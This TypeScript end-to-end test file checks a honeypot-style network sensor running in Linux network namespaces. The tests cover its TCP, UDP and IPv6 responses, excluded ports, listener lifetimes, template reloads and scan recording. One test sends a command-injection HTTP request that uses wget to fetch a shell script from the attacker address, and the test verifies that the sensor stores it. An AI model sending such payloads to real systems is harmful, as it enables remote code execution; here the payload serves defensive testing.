import { createHash } from 'node:crypto'
import { cpSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { shippedTemplatesDir } from '../../src/config/paths.js'
import type { NetnsPair } from '../../src/netns/netns-pair.js'
import { runAttackPlan } from '../../src/netns/sensor-process.js'
import { describeNetns, readRows, waitFor } from '../helpers/netns-env.js'
import { startSensorFixture, type SensorFixture } from '../helpers/sensor-fixture.js'

interface Row {
  id: string
  protocol: string
  family: number
  src_ip: string
  src_port: number
  dst_ip: string
  dst_port: number
  mode: string
  close_reason: string
  bytes_received: number
  bytes_sent: number
  truncated: number
  payload: Buffer
  md5: string
  sha256: string
  sha512: string
  started_at: number
  ended_at: number
}

const digest = (algo: string, data: Buffer): string => createHash(algo).update(data).digest('hex')

function rowsForPort(dbPath: string, port: number): Row[] {
  return readRows<Row>(dbPath, 'SELECT * FROM attacks WHERE dst_port = ? ORDER BY id', port)
}

async function listening(pair: NetnsPair, proto: 'tcp' | 'udp', port: number): Promise<boolean> {
  const out = await pair.exec(pair.sensorNs, 'ss', ['-Hn', proto === 'tcp' ? '-lt' : '-lu', `sport = :${port}`])
  return out.trim() !== ''
}

describeNetns('sensor in a network namespace (real NFQUEUE rule, real sensor, real clients)', () => {
  let fx: SensorFixture
  let pair: NetnsPair
  let dbPath: string
  let templatesDir: string

  beforeAll(async () => {
    fx = await startSensorFixture({
      label: 'e2e',
      logLevel: 'debug',
      prepare: (dir) => {
        templatesDir = join(dir, 'templates')
        cpSync(shippedTemplatesDir(), templatesDir, { recursive: true })
      },
      configYaml: () => [
        `responder: { idleTimeoutMs: 1500, templatesDir: ${JSON.stringify(templatesDir)} }`,
        'listeners: { idleLifetimeMs: 2000 }',
        'udp: { sessionIdleMs: 800 }',
        'store: { batchWindowMs: 100 }',
        'rules: { exclude: ["7001/tcp"] }',
        'ports: { rules: [ { ports: "7000/tcp", mode: ignore } ] }',
        '',
      ].join('\n'),
    })
    pair = fx.pair
    dbPath = fx.dbPath
  })

  afterAll(() => fx?.teardown())

  it('answers the very first SYN to a never-used port and stores the attack string with addresses and hashes', async () => {
    expect(await listening(pair, 'tcp', 80)).toBe(false)
    const request = `GET /shell?cd+/tmp;wget+http://${pair.attackerV4}/x.sh HTTP/1.1\r\nHost: ${pair.sensorV4}\r\n\r\n`
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 80, send: request, halfClose: true, waitMs: 3_000 }])
    expect(result?.['connected']).toBe(true)
    expect(Buffer.from(String(result?.['received']), 'base64').toString('latin1')).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
    expect(await listening(pair, 'tcp', 80)).toBe(true)

    const rows = await waitFor(() => rowsForPort(dbPath, 80), (r) => r.length === 1, 5_000)
    expect(rows).toHaveLength(1)
    const row = rows[0]!
    const sent = Buffer.from(request, 'latin1')
    expect(row).toMatchObject({ protocol: 'tcp', family: 4, src_ip: pair.attackerV4, dst_ip: pair.sensorV4, dst_port: 80, mode: 'normal', truncated: 0 })
    // The queued SYN's header facts, as Linux's client stack sent them over a 1500-byte link.
    expect(JSON.parse(readRows<{ syn_facts: string }>(dbPath, 'SELECT syn_facts FROM attacks WHERE id = ?', row.id)[0]!.syn_facts)).toMatchObject({
      ttl: 64,
      dontFragment: true,
      tcpFlags: 0x02,
      tcpOptions: [2, 4, 8, 1, 3],
      mss: 1460,
      windowScale: expect.any(Number),
      tcpWindow: expect.any(Number),
      ipId: expect.any(Number),
    })
    expect(row.payload.equals(sent)).toBe(true)
    expect(row.bytes_received).toBe(sent.length)
    expect(row.bytes_sent).toBeGreaterThan(0)
    expect(row.md5).toBe(digest('md5', sent))
    expect(row.sha256).toBe(digest('sha256', sent))
    expect(row.sha512).toBe(digest('sha512', sent))
    expect(row.ended_at).toBeGreaterThanOrEqual(row.started_at)
  })

  it('serves UDP: one session per peer, template reply, destination address from the queued datagram', async () => {
    const probe = Buffer.from(`OPTIONS sip:100@${pair.sensorV4} SIP/2.0\r\nVia: SIP/2.0/UDP ${pair.attackerV4}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n`)
    const [result] = await runAttackPlan(pair, [{ type: 'udp', host: pair.sensorV4, port: 5060, sendBase64: probe.toString('base64'), count: 2, waitMs: 1_000 }])
    const replies = result?.['replies'] as string[]
    expect(replies.length).toBeGreaterThanOrEqual(1)
    expect(Buffer.from(replies[0]!, 'base64').toString('latin1')).toMatch(/^SIP\/2\.0 200 OK\r\n/)
    const rows = await waitFor(() => rowsForPort(dbPath, 5060), (r) => r.length >= 1, 5_000)
    expect(rows).toHaveLength(1) // two datagrams, one session
    expect(rows[0]).toMatchObject({ protocol: 'udp', src_ip: pair.attackerV4, dst_ip: pair.sensorV4, close_reason: 'idle-timeout' })
    expect(rows[0]!.payload.equals(Buffer.concat([probe, probe]))).toBe(true)
  })

  it('serves IPv6 with the same bind-before-accept path', async () => {
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV6, port: 21, send: 'USER root\r\n', halfClose: true, waitMs: 3_000 }])
    expect(result?.['connected']).toBe(true)
    expect(Buffer.from(String(result?.['received']), 'base64').toString('latin1')).toMatch(/^220[ -]/)
    const rows = await waitFor(() => rowsForPort(dbPath, 21), (r) => r.length === 1, 5_000)
    expect(rows[0]).toMatchObject({ family: 6, src_ip: pair.attackerV6, dst_ip: pair.sensorV6, payload: Buffer.from('USER root\r\n') })
  })

  it('leaves ignore-mode and excluded ports alone', async () => {
    const results = await runAttackPlan(pair, [
      { type: 'tcp', host: pair.sensorV4, port: 7000, send: 'x', waitMs: 2_000 },
      { type: 'tcp', host: pair.sensorV4, port: 7001, send: 'x', waitMs: 2_000 },
      { type: 'tcp', host: pair.sensorV4, port: 22, send: 'x', waitMs: 2_000 },
    ])
    for (const r of results) expect(r).toMatchObject({ connected: false, error: 'ECONNREFUSED' })
    await new Promise((r) => setTimeout(r, 500))
    expect(rowsForPort(dbPath, 7000)).toHaveLength(0)
    expect(rowsForPort(dbPath, 7001)).toHaveLength(0)
    expect(await listening(pair, 'tcp', 7000)).toBe(false)
  })

  it('leaves a port owned by a real service to that service', async () => {
    const server = pair.spawn(pair.sensorNs, process.execPath, [
      '-e',
      "require('net').createServer((s) => { s.end('REAL SERVICE\\n') }).listen(8081, () => console.log('up'))",
    ], { stdio: ['ignore', 'pipe', 'inherit'] })
    try {
      await new Promise<void>((resolve) => server.stdout?.once('data', () => resolve()))
      const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 8081, waitMs: 2_000 }])
      expect(Buffer.from(String(result?.['received']), 'base64').toString()).toBe('REAL SERVICE\n')
      await new Promise((r) => setTimeout(r, 500))
      expect(rowsForPort(dbPath, 8081)).toHaveLength(0)
    } finally {
      if (server.pid !== undefined) process.kill(server.pid, 'SIGKILL')
    }
  })

  it('closes a listener after its idle lifetime', async () => {
    await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 9001, halfClose: true, waitMs: 1_000 }])
    expect(await listening(pair, 'tcp', 9001)).toBe(true)
    // idleLifetimeMs is 2 s here and the sweep runs every 500 ms.
    let open = true
    const deadline = Date.now() + 6_000
    while (open && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 250))
      open = await listening(pair, 'tcp', 9001)
    }
    expect(open).toBe(false)
    // ...and the next SYN binds it again: the port still answers.
    const [again] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 9001, halfClose: true, waitMs: 1_000 }])
    expect(again?.['connected']).toBe(true)
  })

  it('serves a template dropped into the directory while running, within 2 s', async () => {
    writeFileSync(join(templatesDir, '9100_tcp'), 'HELLO FROM A NEW TEMPLATE\r\n')
    const dropped = Date.now()
    let reply = ''
    while (!reply.startsWith('HELLO') && Date.now() - dropped < 5_000) {
      const [r] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 9100, send: 'hi\r\n', waitMs: 400 }])
      reply = Buffer.from(String(r?.['received']), 'base64').toString()
    }
    expect(reply).toBe('HELLO FROM A NEW TEMPLATE\r\n')
    expect(Date.now() - dropped).toBeLessThan(2_000 + 1_500) // 2 s to pick up, plus the clients' own start-up time
  })

  it('records connections that send nothing (scans are data)', async () => {
    await runAttackPlan(pair, [{ type: 'scan', host: pair.sensorV4, from: 12_000, to: 12_049, concurrency: 10, timeoutMs: 2_000, deadlineMs: 20_000 }])
    const rows = await waitFor(
      () => readRows<Row>(dbPath, 'SELECT * FROM attacks WHERE dst_port BETWEEN 12000 AND 12049'),
      (r) => r.length === 50,
      5_000,
    )
    expect(rows).toHaveLength(50)
    for (const row of rows) expect(row.bytes_received).toBe(0)
  })
})
